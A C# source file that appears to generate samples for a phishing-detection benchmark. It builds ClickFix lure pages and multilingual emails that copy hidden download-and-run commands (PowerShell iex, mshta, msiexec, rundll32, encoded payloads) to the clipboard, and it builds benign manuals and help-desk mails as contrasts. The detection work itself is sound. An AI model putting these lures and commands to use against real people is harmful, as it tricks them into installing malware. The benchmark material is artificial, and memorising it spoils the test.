using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Pages;

/// <summary>Pages and mails that have their reader paste a command and run it (ClickFix); and manuals, and what help desks write.</summary>
internal sealed class PasteCommands : ISampleKind
{
    public string Name => "paste-command";

    public IEnumerable<Sample> Make(Random random)
    {
        for (var number = 0; number < 6; number++)
            yield return Page(random, number);
        for (var number = 0; number < 4; number++)
        {
            var (subject, text) = Letter(random, number, Command(random));
            yield return Sample.Hostile("mail that says what to paste", SampleMail.With(random, subject, text), [AttackType.Behaviour], "paste-command-lure");
        }

        foreach (var (what, body) in Manuals(random))
            yield return Sample.Benign(what, SampleMail.With(random, SampleFile.Text($"{random.Word()}.html", $"<!DOCTYPE html><html><head><title>{random.Word()}</title></head><body><h1>{random.Word()}</h1>{body}</body></html>", "text/html")));
        foreach (var (subject, text) in Desks(random))
            yield return Sample.Benign("help desk", SampleMail.With(random, subject, text));
    }

    private static Sample Page(Random random, int number)
    {
        var command = Command(random);
        var words = random.Pick(["<h2>Verify you are human</h2><p>Press Windows + R, then Ctrl + V and Enter.</p>", "<h2>私はロボットではありません</h2><p>Windows キー + R を押し、貼り付けて Enter を押してください。</p>", "<h2>로봇이 아닙니다</h2><p>Windows + R 을 누르고 붙여넣기 후 Enter</p>", "<h2>The preview failed</h2><p>Open File Explorer, click the address bar, paste the path and press Enter.</p>"]);
        var copy = number switch
        {
            0 => $"navigator.clipboard.writeText({random.Text(command)})",
            1 => $"var t=document.createElement('textarea');t.value={random.Text(command)};document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()",
            2 => $"navigator.clipboard.write([new ClipboardItem({{'text/plain':new Blob([{random.Text(command)}],{{type:'text/plain'}})}})])",
            3 => $"var r=document.createRange();var c=document.createElement('pre');c.textContent={random.Text(command)};document.body.appendChild(c);r.selectNodeContents(c);var s=getSelection();s.removeAllRanges();s.addRange(r);document.execCommand('copy')",
            4 => $"document.addEventListener('copy',function(e){{e.clipboardData.setData('text/plain',{random.Text(command)});e.preventDefault()}});document.execCommand('copy')",
            _ => $"window[{random.Text("navigator")}].clipboard[{random.Text("writeText")}]({random.Text(command)})",
        };
        return Sample.Hostile("page that copies a command", SampleMail.With(random, SampleFile.Text($"{random.Word()}.html", $"<html><body>{words}<button id=\"b\">OK</button><script>document.getElementById('b').onclick=function(){{{random.Layered(copy)}}};</script></body></html>", "text/html")), [AttackType.Behaviour], "behaviour-paste-command");
    }

    private static string Command(Random random)
    {
        var host = $"{random.Word()}-{random.Word(3, 6)}.example";
        var note = random.Chance(0.4) ? $" # {random.Pick(["I am not a robot", "Cloudflare", "確認 ID", "Verification"])}: {random.Next(1_000, 99_999)}" : "";
        return $"{new string(' ', random.Chance(0.3) ? random.Next(1, 90) : 0)}{random.Next(10) switch
        {
            0 => $"powershell -w h -c iex(irm https://{host}/{random.Word()})",
            1 => $"mshta https://{host}/{random.Word()}.hta",
            2 => $"PowerShell.exe -WindowStyle Hidden -Command \"iwr -useb {host}/{random.Word()} | iex\"",
            3 => $"msiexec /i https://{host}/{random.Word()}.msi /qn",
            4 => $"cmd /c start /min powershell -ep bypass -c \"irm {host}/{random.Word(2, 4)}|iex\"",
            5 => $"%COMSPEC% /c start /min mshta http://{host}/{random.Word()}",
            6 => $"rundll32 \\\\{host}@80\\{random.Word()}\\{random.Word()}.dll,{random.Word()}",
            7 => $"conhost --headless mshta http://{host}",
            8 => $"powershell -enc {Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes($"iex(irm {host}/{random.Word()})"))}",
            _ => $"cmd /c curl -o %temp%\\{random.Word()}.exe https://{host}/{random.Word()} && start %temp%\\{random.Word()}.exe",
        }}{note}";
    }

    private static (string Subject, string Text) Letter(Random random, int language, string command) => language switch
    {
        0 => ($"Certificate {random.Next(100, 999)}", $"Hello,\r\n\r\nto renew the certificate:\r\n1. Press {random.Pick(["Windows + R", "Win+R", "the Windows key + R"])}\r\n2. Paste the following line and press Enter:\r\n\r\n{command.Trim()}\r\n\r\nRegards"),
        1 => ("証明書の更新手順", $"各位\r\n\r\n1. {random.Pick(["Windowsキー + R を押す", "「ファイル名を指定して実行」を開く", "Win + R を押してください"])}\r\n2. 次の文字列を{random.Pick(["貼り付けて", "ペーストして"])} Enter を押す\r\n\r\n{command.Trim()}\r\n"),
        2 => ("인증서 갱신", $"안녕하세요.\r\n1. Windows + R 키를 누르세요\r\n2. 아래 명령을 붙여넣고 Enter를 누르세요\r\n\r\n{command.Trim()}\r\n"),
        _ => ($"Meeting {random.Word()}", $"Hi,\r\n\r\nif the sound fails, open the Run dialog, press Ctrl+V to paste this and confirm: {command.Trim()}\r\n\r\nThanks"),
    };

    private static IEnumerable<(string What, string Body)> Manuals(Random random)
    {
        string Button(string text) => $"<pre id=\"c\">{text}</pre><button onclick=\"navigator.clipboard.writeText(document.getElementById('c').textContent)\">Copy</button>";
        yield return ("manual with a line to install", $"<p>Version {random.Next(1, 9)} is out. Copy the line below to install it on Linux or macOS. The settings are kept.</p>{Button($"curl -fsSL https://get.{random.Word()}.example/install.sh | sh")}");
        yield return ("manual with packages", $"<p>Install the client and its tools.</p>{Button($"pip install {random.Word()} {random.Word()}")}");
        yield return ("manual with a clone", $"<p>Get the source.</p>{Button($"git clone https://git.{random.Word()}.example/{random.Word()}.git")}");
        yield return ("link to share", $"<p>Share this page.</p>{Button($"https://www.{random.Word()}.example/{random.Word()}/{random.Next(1_000)}")}");
        yield return ("table to copy", $"<textarea id=\"t\">{random.Word()}\t{random.Next(99)}</textarea><button onclick=\"document.getElementById('t').select();document.execCommand('copy')\">Copy</button>");
    }

    private static IEnumerable<(string Subject, string Text)> Desks(Random random)
    {
        yield return ("Printer", $"Hello,\r\n\r\npress Win+R, type \\\\print{random.Next(9)}\\{random.Word()} and press Enter. Then paste the name of your desk.\r\n\r\nHelp desk");
        yield return ("ネットワークの確認", "お世話になっております。\r\n\r\nコマンドプロンプトを開き、ipconfig /all を実行して、結果を貼り付けて返信してください。\r\n");
        yield return ("Warning", "Colleagues,\r\n\r\npages now ask people to press Windows + R and paste a PowerShell line. Never do that; call us.\r\n\r\nSecurity");
        yield return ("Restarting the spooler", "Hi,\r\n\r\nopen PowerShell as administrator and run the following command: Restart-Service spooler\r\n\r\nRegards");
    }
}
